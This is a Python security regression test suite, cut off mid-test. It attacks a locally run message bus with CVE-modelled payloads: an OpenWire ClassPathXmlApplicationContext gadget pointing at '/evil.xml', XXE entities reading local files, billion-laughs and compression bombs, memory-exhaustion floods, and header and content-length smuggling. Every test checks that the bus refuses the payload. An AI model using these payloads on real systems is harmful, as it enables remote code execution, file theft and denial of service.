"""The classes of holes that others were caught by (docs/security.md, "What others were caught by"), tried on a real bus.

Each attack is made in earnest. After it the bus must live, have taken little memory, and serve others.
"""
import base64
import gzip
import json
import pathlib
import re
import socket
import struct
import subprocess
import threading
import time
import unittest
import zlib

import openwire_wire as ow
from busbar_fixture import BUSBAR, BUSBARD, Bus, clean_environment
from openwire_wire import OpenWire, Refused
from proton import Message, Terminus
from proton.reactor import ReceiverOption
from proton.utils import BlockingConnection, LinkDetached, SendException
from stomp_wire import Closed, Wire

SAMPLE = pathlib.Path(__file__).resolve().parents[2] / "samples" / "order-service"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
ORDERS = "urn:busbar:sample:orders"
STRANGERS = 200
# What the daemon may have taken for all strangers together. A connection costs some ten KiB, and each may have 16 KiB kept.
STRANGERS_BYTES = STRANGERS * (48 << 10)
CHECK_BYTES = 20 << 20  # scrypt, while it checks a password
ATTACK_BYTES = 32 << 20


class Trap:
    """Listens, and counts who comes: nobody may."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.came = []
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            try:
                connection, address = self.socket.accept()
            except OSError:
                return
            self.came.append(address)
            connection.close()

    def close(self):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def raw(port, data, timeout=10):
    """All that comes back for these bytes until the other side closes; TimeoutError where it does not."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        try:
            s.sendall(data)
            out = b""
            while more := s.recv(1 << 16):
                out += more
        except (ConnectionResetError, BrokenPipeError):  # it was refused while we wrote
            pass
        return out


def configuration():
    """The sample's service, and users beside admin: mallory attacks, alice is attacked."""
    hashed = subprocess.run([BUSBAR, "user", "hash"], input="secret\n", capture_output=True, text=True, check=True,
                            env=clean_environment()).stdout.strip()
    users = "".join(f'<user name="{name}" roles="{role}" password-hash="{hashed}"/>'
                    for name, role in (("admin", "admin"), ("alice", "user"), ("mallory", "user")))
    text = re.sub(r'wsdl="([^"/]+)"', lambda m: f'wsdl="{SAMPLE / m.group(1)}"', (SAMPLE / "busbar-worker.xml").read_text())
    return text.replace("</busbar>", f"<users>{users}</users></busbar>")


class RivalTest(unittest.TestCase):
    settings = ()
    config = None

    def setUp(self):
        RivalTest.config = config = RivalTest.config or configuration()
        self.bus = Bus(config=config, settings=self.settings, env={"BUSBAR_ADMIN_PASSWORD": "secret"})
        self.addCleanup(self.bus.close)
        self.bus.start()
        self.addCleanup(self.lives)

    def lives(self):
        """Serves who comes now, on every wire."""
        self.assertTrue(self.bus.running(), self.bus.log()[-3000:])
        self.assertEqual(201, self.bus.http("POST", "/queues/alive/messages", b"x")[0])
        wire = Wire(self.bus.stomp_port)
        wire.send("SUBSCRIBE", {"id": "1", "destination": "/queue/alive"})
        self.assertEqual("MESSAGE", wire.read()[0])
        wire.close()
        OpenWire(self.bus.openwire_port).close()
        self.amqp().close()

    def memory(self):
        with open(f"/proc/{self.bus.process.pid}/status") as status:
            return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmRSS"))

    def peak(self):
        """The most that the daemon had since forget_peak()."""
        with open(f"/proc/{self.bus.process.pid}/status") as status:
            return next(int(line.split()[1]) << 10 for line in status if line.startswith("VmHWM"))

    def forget_peak(self):
        with open(f"/proc/{self.bus.process.pid}/clear_refs", "w") as clear:
            clear.write("5")

    def amqp(self, user="admin"):
        return BlockingConnection(f"amqp://127.0.0.1:{self.bus.amqp_port}", user=user, password="secret", allowed_mechs="PLAIN",
                                  timeout=20)

    def ask(self, user, method, path, body=None):
        """Status and answer."""
        token = base64.b64encode(f"{user}:secret".encode()).decode()
        status, _, answer = self.bus.http(method, path, body, {"Authorization": "Basic " + token}, login=False)
        return status, answer

    def openwire(self, **options):
        connection = OpenWire(self.bus.openwire_port, **options)
        self.addCleanup(connection.close)
        return connection

    def stomp(self, login="admin"):
        wire = Wire(self.bus.stomp_port, login)
        self.addCleanup(wire.close)
        return wire

    def stomp_error(self, data, wire=None):
        """What these bytes, sent after a login, are refused with."""
        wire = wire or self.stomp()
        try:
            wire.raw(data)
        except Closed:
            pass
        frame = wire.read()
        self.assertEqual("ERROR", frame[0], frame)
        with self.assertRaises(Closed):
            while wire.read(10):
                pass
        return frame[1]["code"]


class BeforeLoginTest(RivalTest):
    """CVE-2026-50734, CVE-2026-50750, CVE-2026-49270: memory for who has shown no password."""

    def crowd(self, port, data, more=0):
        """Many strangers who all send `data` and stay as long as they may. `more`: bytes that may be taken once."""
        self.lives()  # what a check of a password takes, and the first of everything, is there before
        self.forget_peak()
        begin = self.memory()
        strangers = []
        for _ in range(STRANGERS):
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
            strangers.append(s)
            s.setblocking(False)
            rest = memoryview(data)
            try:
                while rest:
                    rest = rest[s.send(rest):]
            except BlockingIOError:  # it takes no more: that is what it should do
                pass
            except OSError:  # refused
                pass
        self.lives()  # and so everything that was sent has been looked at
        grown = self.peak() - begin
        print(f"{self.id().rpartition('.')[2]}: {STRANGERS} strangers sent {len(data)} bytes each, {grown >> 10} KiB were taken")
        self.assertLess(grown, STRANGERS_BYTES + more)
        for s in strangers:
            s.close()

    def test_openwire_wire_format_with_a_map_without_end(self):
        count = ow.number(0x7fffffff)
        entry = b"\0\1a\x09" + struct.pack(">H", 1000) + b"x" * 1000
        self.crowd(self.bus.openwire_port, ow.wire_format(count + entry * 14))
        self.crowd(self.bus.openwire_port, ow.wire_format(count + entry * 4000))  # 4 MB

    def test_openwire_wire_format_of_maps_within_maps(self):
        self.crowd(self.bus.openwire_port, ow.wire_format((ow.number(1) + b"\0\1a\x0b") * 2000))

    def test_openwire_frame_of_two_gigabytes(self):
        self.crowd(self.bus.openwire_port, ow.number(0x7fffffff) + b"\1ActiveMQ" + b"x" * 4_000_000)

    def test_openwire_wire_format_again_and_again(self):
        self.crowd(self.bus.openwire_port, ow.wire_format() * 20_000)

    def test_openwire_commands_in_place_of_a_login(self):
        fields = ow.number(1) + ow.flag(True) + ow.nested(123, ow.text("c") + ow.large(1) + ow.large(1)) + b"x" * 15_000
        self.crowd(self.bus.openwire_port, ow.wire_format() + ow.frame(ow.TEXT_MESSAGE, fields) * 200)

    def test_openwire_keep_alives_that_nobody_reads(self):
        alive = ow.frame(ow.KEEP_ALIVE, ow.number(1) + ow.flag(True))
        self.crowd(self.bus.openwire_port, ow.wire_format() + alive * 200_000)

    def test_stomp_header_without_end(self):
        self.crowd(self.bus.stomp_port, b"CONNECT\nlogin:" + b"a" * 4_000_000)
        self.crowd(self.bus.stomp_port, b"CONNECT\n" + b"a:b\n" * 1_000_000)
        self.crowd(self.bus.stomp_port, b"\n" * 4_000_000)

    def test_stomp_body_before_login(self):
        self.crowd(self.bus.stomp_port, b"CONNECT\ncontent-length:2000000000\n\n" + b"a" * 4_000_000)
        self.crowd(self.bus.stomp_port, b"SEND\ndestination:/queue/a\ncontent-length:100000000\n\n" + b"a" * 4_000_000)

    def test_stomp_pipelined_behind_the_login(self):
        """The password check takes a while: what comes meanwhile must not be gathered without end."""
        self.crowd(self.bus.stomp_port, b"CONNECT\nlogin:admin\npasscode:wrong\naccept-version:1.2\n\n\0" + b"a" * 4_000_000, CHECK_BYTES)

    def test_amqp_frames_without_end(self):
        sasl = b"AMQP\3\1\0\0"
        self.crowd(self.bus.amqp_port, sasl + struct.pack(">IBBH", 0x7fffffff, 2, 1, 0) + b"\0\x53\x41" + b"a" * 4_000_000)
        outcome = b"\0\x53\x41\xc0\xff\xff"
        self.crowd(self.bus.amqp_port, sasl + (struct.pack(">IBBH", 8 + len(outcome), 2, 1, 0) + outcome) * 100_000)
        self.crowd(self.bus.amqp_port, b"AMQP\0\1\0\0" + struct.pack(">IBBH", 0x7fffffff, 2, 0, 0) + b"a" * 4_000_000)

    def test_http_heads_without_end(self):
        self.crowd(self.bus.http_port, b"GET / HTTP/1.1\r\nHost: " + b"a" * 4_000_000)
        self.crowd(self.bus.http_port, b"GET /" + b"a" * 4_000_000)
        self.crowd(self.bus.http_port, b"POST /queues/a/messages HTTP/1.1\r\nHost: a\r\nContent-Length: 16000000\r\n\r\n" +
                   b"a" * 4_000_000)
        self.crowd(self.bus.http_port, b"POST /queues/a/messages HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n" +
                   b"ffffff;" + b"e" * 4_000_000)

    def test_websocket_frames_before_login(self):
        for subprotocol, path in ((b"v12.stomp", b"/ws/stomp"), (b"amqp", b"/ws/amqp")):
            upgrade = (b"GET " + path + b" HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                       b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                       b"Sec-WebSocket-Protocol: " + subprotocol + b"\r\n\r\n")
            for size in (0x7fffffffffffffff, 4_000_000):
                self.crowd(self.bus.http_port, upgrade + b"\x82\xff" + struct.pack(">Q", size) + b"\0\0\0\0" + b"a" * 4_000_000)


class OpenWireTest(RivalTest):
    CLASS = "org.springframework.context.support.ClassPathXmlApplicationContext"

    def test_no_class_is_made_by_its_name(self):
        """CVE-2023-46604: a Throwable of any class with any text, before and after the login."""
        trap = Trap()
        self.addCleanup(trap.close)
        cause = ow.throwable(self.CLASS, trap.url + "/evil.xml")
        for login in (False, True):
            for kind, fields in ((ow.EXCEPTION, ow.number(1) + cause), (ow.CONNECTION_ERROR, cause + ow.NULL)):
                connection = self.openwire(login=login)
                connection.send(kind, fields)
                with self.subTest(login=login, kind=kind):
                    what, body = connection.read()
                    while what not in (ow.EXCEPTION, ow.CONNECTION_ERROR):
                        what, body = connection.read()
                    self.assertRegex(connection.exception(body[9 if what == ow.EXCEPTION else 5:]), "javax.jms.*")
        connection = self.openwire()
        connection.consume(ow.QUEUE, "poisoned")
        self.bus.http("POST", "/queues/poisoned/messages", b"x")
        while (frame := connection.read())[0] != 21:
            pass
        consumer = ow.nested(122, ow.text(connection.name) + ow.large(1) + ow.large(1))
        connection.send(ow.MESSAGE_ACK, ow.destination(ow.QUEUE, "poisoned") + ow.NULL + consumer + b"\1" + ow.NULL + ow.NULL +
                        ow.number(1) + cause)
        connection.destination_info(ow.QUEUE, "a")  # answered behind it
        self.assertEqual([], trap.came)

    def test_property_maps_are_bounded(self):
        """CVE-2026-53917: a count of two thousand million, and a hundred thousand real entries."""
        self.lives()
        self.forget_peak()
        begin = self.memory()
        for properties in (ow.number(0x7fffffff), ow.number(0x7fffffff) + b"\0\1a\x05\0\0\0\1" * 1000, ow.number(-2) + b"x",
                           ow.number(100_000) + b"".join(b"\0\6%06d\x05\0\0\0\1" % i for i in range(100_000)),
                           (ow.number(1) + b"\0\1a\x0b") * 5_000 + ow.number(0),
                           ow.number(1) + b"\0\1a\x0c" + ow.number(0x7fffffff)):
            connection = self.openwire()
            with self.assertRaisesRegex(Refused, "malformed|too-large"):
                connection.ask(ow.TEXT_MESSAGE, connection.text_message("q", ow.number(1) + b"x", properties))
        self.assertLess(self.peak() - begin, ATTACK_BYTES)

    def test_compressed_bodies_are_bounded(self):
        """A gigabyte of zeros in a megabyte: taken as far as a body may be, not further."""
        squeeze = zlib.compressobj(9)
        bomb = b"".join(squeeze.compress(b"\0" * (1 << 20)) for _ in range(1024)) + squeeze.flush()
        self.lives()
        self.forget_peak()
        begin = self.memory()
        for _ in range(3):
            connection = self.openwire()
            with self.assertRaisesRegex(Refused, "too-large"):
                connection.ask(ow.TEXT_MESSAGE, connection.text_message("q", bomb, compressed=True))
        self.assertLess(self.peak() - begin, (64 << 20) * 2 + ATTACK_BYTES)  # limits.body-bytes, while its string grows

    def test_another_clients_subscription_is_not_removed(self):
        """GHSA-59p6-j354-3gpj: RemoveSubscriptionInfo with someone else's client id, or none."""
        owner = self.openwire(client_id="owner", name="ID:owner-1:1")
        owner.consume(ow.TOPIC, "news", subscription="mine")
        owner.close()
        attacker = self.openwire(client_id="attacker", name="ID:attacker-1:1")
        with self.assertRaisesRegex(Refused, "not-authorized"):
            attacker.remove_subscription("mine", "owner")
        for client_id in ("attacker", None):
            with self.assertRaisesRegex(Refused, "not-found"):
                attacker.remove_subscription("mine", client_id)
        with self.assertRaises(Refused):
            self.openwire(name="ID:nameless-1:1").remove_subscription("mine", None)
        self.assertEqual(201, self.bus.http("POST", "/topics/news/messages", b"still there")[0])
        self.assertIn(b"owner.mine", self.bus.http("GET", "/api/v1/queues")[2])
        owner = self.openwire(client_id="owner", name="ID:owner-1:2")
        owner.remove_subscription("mine", "owner")
        self.assertNotIn(b"owner.mine", self.bus.http("GET", "/api/v1/queues")[2])

    def test_nor_over_stomp_and_amqp(self):
        owner = self.openwire(client_id="owner", name="ID:owner-1:1")
        owner.consume(ow.TOPIC, "news", subscription="mine")
        owner.close()
        for headers in ({"client-id": "attacker"}, {}):
            wire = self.stomp()
            wire.raw(b"UNSUBSCRIBE\nid:none\ndurable-subscription-name:mine\nreceipt:r\n\n\0")
            self.assertEqual("ERROR", wire.read()[0], headers)

        class Gone(ReceiverOption):
            def apply(self, receiver):
                receiver.source.type = Terminus.UNSPECIFIED
        connection = self.amqp()
        try:
            connection.create_receiver(None, name="mine", options=Gone())
        except LinkDetached:
            pass
        connection.close()
        self.assertIn(b"owner.mine", self.bus.http("GET", "/api/v1/queues")[2])


class StompTest(RivalTest):
    def test_headers_are_bounded(self):
        """CVE-2026-53916: one line without end, lines without end, escapes without end."""
        self.lives()
        self.forget_peak()
        begin = self.memory()
        for hostile in (b"SEND\na:" + b"x" * 20_000_000, b"SEND\n" + b"a:b\n" * 5_000_000, b"x" * 20_000_000,
                        b"SEND\na:" + b"\\\\" * 10_000_000):
            self.assertEqual("too-large", self.stomp_error(hostile))
        self.assertEqual("too-large", self.stomp_error(b"SEND\n" + b"a:b\n" * 129 + b"\n\0"))
        self.assertLess(self.peak() - begin, ATTACK_BYTES)

    def test_content_length_is_what_it_says_or_an_error(self):
        """CVE-2026-49432: negative, signed, huge, empty, in other digits; and two of them: the first counts."""
        for length, code in (("-1", "malformed"), ("-9223372036854775808", "malformed"), ("+5", "malformed"), ("", "malformed"),
                             (" 5", "malformed"), ("5 ", "malformed"), ("0x5", "malformed"), ("5.0", "malformed"), ("1e3", "malformed"),
                             ("٥", "malformed"), ("4294967296000", "too-large"), ("18446744073709551616", "too-large"),
                             ("9" * 400, "too-large"), ("18446744073709551615", "too-large")):
            with self.subTest(length=length):
                frame = f"SEND\ndestination:/queue/a\ncontent-length:{length}\n\nhello\0".encode()
                self.assertEqual(code, self.stomp_error(frame))
        self.assertEqual("malformed", self.stomp_error(b"SEND\ndestination:/queue/a\ncontent-length:3\n\nhello\0"))
        wire = self.stomp()
        smuggled = b"x\0SEND\ndestination:/queue/smuggled\n\ny\0"
        wire.raw(b"SEND\ndestination:/queue/a\nreceipt:1\ncontent-length:%d\ncontent-length:1\n\n" % len(smuggled) + smuggled + b"\0")
        self.assertEqual("1", wire.read()[1]["receipt-id"])
        self.assertEqual(404, self.bus.http("GET", "/queues/smuggled/messages")[0])

    def test_a_property_cannot_change_the_frame_that_others_get(self):
        """Line ends, colons, and names of the frame's own headers within properties of another wire."""
        sender = self.amqp().create_sender("split")
        hostile = {"a\nb": "c\n\n\0MESSAGE\n", "content-length": "0", "subscription": "other", "destination": "/queue/evil", "x:y": ":\\"}
        sender.send(Message(body="whole", properties=hostile))
        wire = self.stomp()
        wire.send("SUBSCRIBE", {"id": "1", "destination": "/queue/split"})
        command, headers, body = wire.read()
        self.assertEqual(("MESSAGE", "1", "/queue/split", b"whole"), (command, headers["subscription"], headers["destination"], body))
        self.assertIsNone(wire.read(0.3))


class TemporaryTest(RivalTest):
    """CVE-2026-54475: another connection takes a temporary destination over. Answers in it are its owner's alone."""

    def attack(self, name):
        """Every way to consume from, look into, delete, empty or re-make it, on every wire, by the owner's own user and by
        another one. `name` is the bus's name."""
        for user in ("alice", "mallory"):
            self.attack_as(user, name)
        # Administrators may do everything, but not take answers away from who waits for them.
        self.assertIn(self.ask("admin", "GET", f"/queues/{name.replace(':', '%3A')}/messages")[0], (403, 404))

    def attack_as(self, user, name):
        destinations = [f"/temp-queue/bus:{name}", f"/queue/{name}"] + ([f"/temp-queue/{name}"] if name.startswith("tq.") else [])
        for destination in destinations:
            for more in ({}, {"browser": "true"}, {"exclusive": "true"}):
                with self.subTest(user=user, wire="stomp", destination=destination, **more):
                    wire = self.stomp(user)
                    wire.send("SUBSCRIBE", {"id": "1", "destination": destination, "receipt": "r", **more})
                    frame = wire.next_or_error()
                    self.assertEqual("ERROR", frame[0], frame)
                    wire.close()
        connection = self.amqp(user)
        for address in (f"temp-queue://{name}", f"queue://{name}", name):
            with self.subTest(user=user, wire="amqp", address=address), self.assertRaises(LinkDetached):
                connection.create_receiver(address, credit=1)
        connection.close()
        for kind in (ow.TEMP_QUEUE, ow.QUEUE):
            attacker = self.openwire(user=user, name="ID:attacker-1:1")
            for attempt in (lambda: attacker.consume(kind, name), lambda: attacker.consume(kind, name, 2, browser=True),
                            lambda: attacker.destination_info(kind, name, remove=True)):
                with self.subTest(user=user, wire="openwire", kind=kind), self.assertRaises(Refused):
                    attempt()
        with self.assertRaises(Refused):
            self.openwire(user=user, name="ID:attacker-1:2").destination_info(ow.TEMP_QUEUE, name)
        for method, path, body in (("GET", f"/queues/{name}/messages", None), ("GET", f"/queues/{name}/messages?browse=true", None),
                                   ("DELETE", f"/queues/{name}/messages", None), ("POST", f"/queues/{name}/move?to=stolen", b""),
                                   ("POST", f"/queues/{name}/copy?to=stolen", b""), ("DELETE", f"/api/v1/queues/{name}", None),
                                   ("PUT", f"/api/v1/queues/{name}", b"{}"), ("GET", f"/queues/{name}/groups/g/state", None)):
            with self.subTest(user=user, wire="http", method=method, path=path):
                status, answer = self.ask(user, method, path.replace(name, name.replace(":", "%3A")), body)
                self.assertIn(status, (403, 404), answer)
        self.assertEqual(404, self.bus.http("GET", "/queues/stolen/messages")[0])

    def test_of_stomp(self):
        owner = self.stomp("alice")
        owner.send("SUBSCRIBE", {"id": "1", "destination": "/temp-queue/answers", "receipt": "r", "ack": "client"})
        self.assertEqual("RECEIPT", owner.read()[0])
        owner.send("SEND", {"destination": "/queue/asked", "reply-to": "/temp-queue/answers", "receipt": "s"}, b"question")
        self.assertEqual("RECEIPT", owner.read()[0])
        asked = json.loads(self.bus.http("GET", "/queues/asked/messages")[2])[0]
        name = asked["replyTo"].removeprefix("temp-queue://")
        self.attack(name)
        self.assertEqual(201, self.bus.http("POST", f"/queues/{name}/messages", b"answer")[0])
        self.assertEqual(b"answer", owner.read()[2])

    def test_of_amqp(self):
        connection = self.amqp("alice")
        receiver = connection.create_receiver(None, dynamic=True)
        name = receiver.link.remote_source.address.removeprefix("temp-queue://")
        self.attack(name)
        self.assertEqual(201, self.bus.http("POST", f"/queues/{name.replace(':', '%3A')}/messages", b"answer")[0])
        self.assertEqual(b"answer", bytes(receiver.receive(timeout=10).body))
        connection.close()

    def test_of_openwire(self):
        owner = self.openwire(user="alice", name="ID:owner-1:1")
        name = "ID:owner-1:1:1"
        owner.destination_info(ow.TEMP_QUEUE, name)
        owner.consume(ow.TEMP_QUEUE, name)
        self.attack(name)
        self.assertEqual(201, self.bus.http("POST", f"/queues/{name.replace(':', '%3A')}/messages", b"answer")[0])
        while (frame := owner.read())[0] != 21:
            pass
        self.assertIn(b"answer", frame[1])

    def test_topics(self):
        owner = self.openwire(name="ID:owner-1:1")
        name = "ID:owner-1:1:7"
        owner.destination_info(ow.TEMP_TOPIC, name)
        owner.consume(ow.TEMP_TOPIC, name)
        attacker = self.openwire(name="ID:attacker-1:1")
        with self.assertRaises(Refused):
            attacker.consume(ow.TEMP_TOPIC, name)
        with self.assertRaises(Refused):
            attacker.destination_info(ow.TEMP_TOPIC, name, remove=True)
        attacker.consume(ow.TOPIC, name, 2)  # a plain topic of that name is another one
        attacker.consume(ow.TOPIC, ">", 3)
        wire = self.stomp()
        for number, destination in enumerate((f"/topic/{name}".replace(":", "\\c"), "/topic/>")):
            wire.raw(f"SUBSCRIBE\nid:{number}\ndestination:{destination}\nreceipt:r\n\n\0".encode())
            self.assertEqual("RECEIPT", wire.read()[0])
        producer = self.amqp()
        with self.assertRaises(LinkDetached):
            producer.create_receiver(f"temp-topic://{name}", credit=1)
        producer.create_sender(f"temp-topic://{name}").send(Message("secret"))
        while (frame := owner.read())[0] != 21:
            pass
        self.assertIn(b"secret", frame[1])
        self.assertIsNone(wire.read(0.3))
        attacker.socket.settimeout(0.3)
        with self.assertRaises(TimeoutError):
            while (frame := attacker.read())[0] != 21:
                pass
        producer.close()


class AmqpTest(RivalTest):
    settings = ("amqp.credit=10",)

    def test_refused_messages_give_their_credit_back(self):
        """CVE-2026-59320: a listener that returns no credit after an error serves nobody any more."""
        self.assertEqual(200, self.bus.http("PUT", "/api/v1/queues/small", b'{"messagesMax":1,"whenFull":"reject"}')[0])
        connection = self.amqp()
        sender = connection.create_sender("small")
        sender.send(Message("first", durable=True))
        for _ in range(55):  # five and a half times the credit
            with self.assertRaises(SendException):
                sender.send(Message("refused", durable=True))
        self.assertEqual(1, len(json.loads(self.bus.http("GET", "/queues/small/messages?lease=1h")[2])))
        self.assertEqual(200, self.bus.http("PUT", "/api/v1/queues/small", b'{"messagesMax":10}')[0])
        sender.send(Message("taken again", durable=True))
        connection.close()

    def test_messages_that_cannot_be_read_give_it_back_too(self):
        connection = self.amqp()
        sender = connection.create_sender("strange")
        for _ in range(55):
            with self.assertRaises(SendException):
                sender.send(Message("x", reply_to="topic://a//\n"))
        sender.send(Message("fine"))
        connection.close()

    def test_maps_are_bounded(self):
        """A map that announces four thousand million entries within a few bytes."""
        self.lives()
        self.forget_peak()
        begin = self.memory()
        connection = self.amqp()
        sender = connection.create_sender("maps")
        for section in (0x74, 0x77, 0x72, 0x71, 0x78):  # application-properties, value, annotations of both kinds, footer
            for content in (b"\xd1\x7f\xff\xff\xff\x7f\xff\xff\xff", b"\xd1\0\0\0\4\xff\xff\xff\xfe", b"\xd1\0\0\0\6\x7f\xff\xff\xfe\x40\x40",
                            b"\xc1\1\xff", b"\xd0\x7f\xff\xff\xff\x7f\xff\xff\xff", b"\xf0\x7f\xff\xff\xff\x7f\xff\xff\xff\x40"):
                link = sender.link
                delivery = link.delivery(f"{section}{content.hex()}")
                link.stream(b"\0\x53" + bytes([section]) + content)
                link.advance()
                connection.wait(lambda d=delivery: d.settled or d.remote_state, timeout=20)
                delivery.settle()
        sender.send(Message("fine"))
        connection.close()
        self.assertLess(self.peak() - begin, ATTACK_BYTES)


class XmlTest(RivalTest):
    """What an XML document can have a careless reader fetch, expand or build."""

    def setUp(self):
        super().setUp()
        self.trap = Trap()
        self.addCleanup(self.trap.close)
        self.secret = self.bus.directory / "secret.txt"
        self.secret.write_text("the secret")

    def post(self, document, **headers):
        return self.bus.http("POST", "/services/orders", document, {"Content-Type": "text/xml", "SOAPAction": '""', **headers})

    def envelope(self, body=None, header="", prologue="", attributes=""):
        body = body or f'<PlaceOrder xmlns="{ORDERS}"><customer>a</customer></PlaceOrder>'
        header = f"<s:Header>{header}</s:Header>" if header else ""
        return f'{prologue}<s:Envelope xmlns:s="{SOAP11}"{attributes}>{header}<s:Body>{body}</s:Body></s:Envelope>'.encode()

    def refused(self, document, *words):
        begin = time.monotonic()
        before = self.memory()
        self.forget_peak()
        status, headers, answer = self.post(document)
        self.assertEqual(500, status)
        self.assertEqual("text/xml", headers["Content-Type"].split(";")[0])
        self.assertIn(b"Client", answer)
        self.assertNotIn(b"the secret", answer)
        for word in words:
            self.assertIn(word, answer)
        self.assertLess(time.monotonic() - begin, 5)
        self.assertLess(self.peak() - before, ATTACK_BYTES + 8 * len(document))
        self.assertEqual([], self.trap.came)

    def test_no_external_entity_is_fetched(self):
        order = f'<PlaceOrder xmlns="{ORDERS}"><customer>&e;</customer></PlaceOrder>'
        for target in (f"file://{self.secret}", f"{self.trap.url}/e", str(self.secret)):
            for declaration in (f'<!ENTITY e SYSTEM "{target}">', f'<!ENTITY e PUBLIC "p" "{target}">',
                                f'<!ENTITY % p SYSTEM "{target}"> %p;'):
                self.refused(self.envelope(order, prologue=f"<!DOCTYPE s:Envelope [{declaration}]>"), b"DOCTYPE")
            self.refused(self.envelope(prologue=f'<!DOCTYPE s:Envelope SYSTEM "{target}">'), b"DOCTYPE")
        utf16 = self.envelope(order, prologue=f'<!DOCTYPE s:Envelope [<!ENTITY e SYSTEM "{self.trap.url}">]>').decode().encode("utf-16")
        self.refused(utf16)

    def test_no_entity_expands(self):
        laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
        self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"><customer>&l11;</customer></PlaceOrder>',
                                   prologue=f'<!DOCTYPE s:Envelope [<!ENTITY l0 "ha">{laughs}]>'), b"DOCTYPE")
        self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"><customer>&undeclared;</customer></PlaceOrder>'))

    def test_xinclude_is_an_element_like_any(self):
        include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file://{self.secret}" parse="text"/>'
        self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"><customer>{include}</customer></PlaceOrder>'))
        self.refused(self.envelope(include.replace(f"file://{self.secret}", self.trap.url)))

    def test_no_schema_location_is_followed(self):
        location = (f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="{ORDERS} {self.trap.url}/o.xsd urn:x '
                    f'{self.trap.url}/x.xsd" i:noNamespaceSchemaLocation="{self.trap.url}/n.xsd"')
        self.refused(self.envelope('<x:a xmlns:x="urn:x"/>', attributes=location))
        self.refused(self.envelope("<a/>", attributes=location))
        self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"{location}><wrong/></PlaceOrder>'))

    def test_no_stylesheet_is_run(self):
        self.refused(self.envelope(prologue=f'<?xml-stylesheet href="{self.trap.url}/s.xsl" type="text/xsl"?>'))

    def test_depth_and_attributes_are_bounded(self):
        self.refused(self.envelope("<a>" * 500_000 + "</a>" * 500_000), b"line")
        self.refused(self.envelope("<a>" * 2_000_000))
        self.refused(self.envelope("<a " + " ".join(f'a{i}=""' for i in range(200_000)) + "/>"))
        self.refused(self.envelope("<a " + " ".join(f'xmlns:a{i}="u"' for i in range(100_000)) + "/>"))
        self.refused(self.envelope(f"<{'a' * 5_000_000}/>"))
        self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"><customer>{"<!---->" * 1_000_000}</customer></PlaceOrder>'))

    def test_configuration_files_are_read_with_the_same_care(self):
        for text in (f'<!DOCTYPE busbar [<!ENTITY e SYSTEM "file://{self.secret}">]><busbar xmlns="urn:busbar:configuration" data="&e;"/>',
                     f'<busbar xmlns="urn:busbar:configuration"><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{self.trap.url}"/></busbar>'):
            file = self.bus.directory / "hostile.xml"
            file.write_text(text)
            run = subprocess.run([BUSBARD, "--check", "--config", str(file)], capture_output=True, text=True, timeout=30,
                                 env=clean_environment())
            self.assertEqual(1, run.returncode, run)
            self.assertNotIn("the secret", run.stderr)
        self.assertEqual([], self.trap.came)

    def test_a_compressed_body_is_not_opened(self):
        """A gigabyte in a megabyte: Content-Encoding is refused, wherever a body goes."""
        bomb = gzip.compress(b"\0" * (1 << 24), 9) * 4
        for path in ("/services/orders", "/queues/q/messages", "/topics/t/messages"):
            for coding in ("gzip", "deflate", "br", "GZIP", "x-gzip, gzip"):
                begin = self.memory()
                status, headers, answer = self.bus.http("POST", path, bomb, {"Content-Type": "text/xml", "Content-Encoding": coding})
                self.assertEqual((415, "identity"), (status, headers["Accept-Encoding"]), answer)
                self.assertLess(self.memory() - begin, ATTACK_BYTES)
        self.assertEqual(201, self.bus.http("POST", "/queues/q/messages", b"x", {"Content-Encoding": "identity"})[0])

    def test_addressing_sends_the_bus_nowhere(self):
        """WS-Addressing ReplyTo and FaultTo name an address of the attacker's choice: nobody calls there."""
        for ns in ("http://www.w3.org/2005/08/addressing", "http://schemas.xmlsoap.org/ws/2004/08/addressing"):
            header = "".join(f'<a:{name} xmlns:a="{ns}"><a:Address>{self.trap.url}/{name}</a:Address></a:{name}>'
                             for name in ("ReplyTo", "FaultTo", "From"))
            header += f'<a:To xmlns:a="{ns}">{self.trap.url}/to</a:To><a:MessageID xmlns:a="{ns}">urn:{len(ns)}</a:MessageID>'
            self.refused(self.envelope(f'<PlaceOrder xmlns="{ORDERS}"><wrong/></PlaceOrder>', header))
            worker = self.stomp()
            worker.send("SUBSCRIBE", {"id": "1", "destination": "/queue/orders.request"})
            order = (f'<PlaceOrder xmlns="{ORDERS}"><customer>a</customer><item><sku>b</sku><quantity>1</quantity><price>1.00</price></item>'
                     '</PlaceOrder>')
            answers = []
            caller = threading.Thread(target=lambda: answers.append(self.post(self.envelope(order, header))))
            caller.start()
            request = worker.next("MESSAGE")
            self.assertIsNotNone(request, answers)
            worker.send("SEND", {"destination": request[1]["reply-to"].replace("\\c", ":"), "correlation-id":
                                 request[1]["correlation-id"].replace("\\c", ":"), "content-type": "text/xml"},
                        f'<Nothing xmlns="{ORDERS}"/>'.encode())
            caller.join(30)
            self.assertEqual(500, answers[0][0])  # the answer came here, on the connection that asked
            worker.close()
        self.assertEqual([], self.trap.came)


class HttpTest(RivalTest):
    def test_requests_that_can_be_read_in_two_ways(self):
        """Smuggling: refused with 400 (or 501), and the connection ends, so that nothing behind it counts as a request."""
        login = b"Authorization: Basic " + base64.b64encode(b"admin:secret") + b"\r\n"
